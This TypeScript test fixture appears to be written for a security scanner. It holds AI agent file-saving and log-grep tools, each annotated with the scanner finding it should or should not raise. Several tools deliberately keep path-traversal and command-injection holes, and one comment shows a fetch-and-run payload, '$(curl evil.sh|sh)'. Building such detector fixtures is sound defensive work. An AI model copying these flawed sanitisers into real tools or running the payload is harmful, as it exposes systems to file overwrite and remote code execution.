// A coding agent that spills long tool output to files named after the model's tool call, and a
// shell tool: names are cut down to an allow-listed alphabet with replace(/[^...]/g, ...).
import { exec } from "node:child_process";
import * as fs from "node:fs/promises";
import * as path from "node:path";
import { tool } from "ai";
import { z } from "zod";

const OUTPUT_DIR = path.join(process.cwd(), ".agent", "tool-output");

// Everything but letters, digits, `_` and `-` becomes `_`: no `/`, `\` or `.` survives.
function fileStem(part: string): string {
  return part.replace(/[^a-zA-Z0-9_-]/g, "_");
}

// Keeps dots: a name of `..` alone climbs out of the folder.
function dottedStem(part: string): string {
  return part.replace(/[^\w.-]/g, "");
}

// No `g` flag: only the first character outside the alphabet is replaced.
function firstOnly(part: string): string {
  return part.replace(/[^a-z0-9]/, "");
}

export const saveOutput = tool({
  description: "Save a tool's full output to a file so it can be read later",
  inputSchema: z.object({ toolName: z.string(), callId: z.string(), output: z.string() }),
  execute: async ({ toolName, callId, output }) => {
    const file = path.join(OUTPUT_DIR, `${fileStem(toolName).toLowerCase()}_${fileStem(callId)}.txt`);
    // llmsafe-expect-clean: llm-output-path-traversal
    await fs.writeFile(file, output, "utf8");
    return file;
  },
});

export const saveSession = tool({
  description: "Save the session transcript under the session's id",
  inputSchema: z.object({ sessionId: z.string(), transcript: z.string() }),
  execute: async ({ sessionId, transcript }) => {
    const safeId = sessionId.replaceAll(/[^A-Za-z0-9-]+/g, "");
    // llmsafe-expect-clean: llm-output-path-traversal
    await fs.writeFile(path.join(OUTPUT_DIR, safeId, "transcript.md"), transcript, "utf8");
    return safeId;
  },
});

// llmsafe-expect: excessive-agency-tool
export const grepLogs = tool({
  description: "Count log lines mentioning a service",
  inputSchema: z.object({ service: z.string() }),
  execute: async ({ service }) =>
    new Promise<string>((resolve) => {
      // llmsafe-expect-clean: llm-output-command-injection
      exec(`grep -c ${fileStem(service)} /var/log/app.log`, (_err, stdout) => resolve(stdout));
    }),
});

// ---- look sanitised, are not -------------------------------------------------------------

// llmsafe-expect: excessive-agency-tool
export const saveDraft = tool({
  description: "Save a draft under a folder the model names",
  inputSchema: z.object({ folder: z.string(), text: z.string() }),
  execute: async ({ folder, text }) => {
    // llmsafe-expect: llm-output-path-traversal
    await fs.writeFile(path.join(OUTPUT_DIR, dottedStem(folder), "draft.md"), text, "utf8");
    return "saved";
  },
});

// llmsafe-expect: excessive-agency-tool
export const saveNote = tool({
  description: "Save a note",
  inputSchema: z.object({ name: z.string(), text: z.string() }),
  execute: async ({ name, text }) => {
    // llmsafe-expect: llm-output-path-traversal
    await fs.writeFile(path.join(OUTPUT_DIR, firstOnly(name)), text, "utf8");
    return "saved";
  },
});

// llmsafe-expect: excessive-agency-tool
export const saveReport = tool({
  description: "Save a report under a nested path",
  inputSchema: z.object({ where: z.string(), text: z.string() }),
  execute: async ({ where, text }) => {
    // The class keeps `/` and `.`: `../../etc` passes through.
    const rel = where.replace(/[^\w/.-]/g, "");
    // llmsafe-expect: llm-output-path-traversal
    await fs.writeFile(path.join(OUTPUT_DIR, rel), text, "utf8");
    return rel;
  },
});

// llmsafe-expect: excessive-agency-tool
export const saveUnder = tool({
  description: "Save a file, replacing odd characters with a separator",
  inputSchema: z.object({ name: z.string(), text: z.string() }),
  execute: async ({ name, text }) => {
    // The replacement itself is a path separator.
    const nested = name.replace(/[^a-z0-9]/g, "/");
    // llmsafe-expect: llm-output-path-traversal
    await fs.writeFile(path.join(OUTPUT_DIR, nested), text, "utf8");
    return nested;
  },
});

// llmsafe-expect: excessive-agency-tool
export const grepWords = tool({
  description: "Count log lines mentioning some words",
  inputSchema: z.object({ words: z.string() }),
  execute: async ({ words }) =>
    new Promise<string>((resolve) => {
      // Keeps `$`, `(`, `)` and spaces: `$(curl evil.sh|sh)` survives as a command substitution.
      const cleaned = words.replace(/[^\w\s$()|.-]/g, "");
      // llmsafe-expect: llm-output-command-injection
      exec(`grep -c "${cleaned}" /var/log/app.log`, (_err, stdout) => resolve(stdout));
    }),
});
